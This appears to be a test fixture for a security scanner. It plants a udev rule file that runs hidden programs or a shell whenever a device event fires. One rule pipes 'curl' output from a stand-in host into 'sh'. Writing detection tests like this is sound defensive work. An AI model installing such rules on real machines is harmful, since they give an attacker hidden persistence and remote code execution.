# id: K102
# mode: scan
# level: suspicious
# title: a rule of udev that runs a hidden program or a shell
# due: now
word name
pick place /etc/udev/rules.d /usr/lib/udev/rules.d /run/udev/rules.d
pick rule "SUBSYSTEM==\"net\", ACTION==\"add\", RUN+=\"/var/tmp/.$name/run\"" \
    "ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"/usr/lib/.$name run:+\"" \
    "ACTION==\"add\", KERNEL==\"random\", RUN+=\"/bin/sh -c '/dev/shm/$name &'\"" \
    "SUBSYSTEM==\"block\", PROGRAM=\"/bin/sh -c 'curl -s 127.0.0.1/$name|sh'\""
mkdir -p "$place"
echo "$rule" >"$place/75-$name.rules"
said path "$place/75-$name.rules"
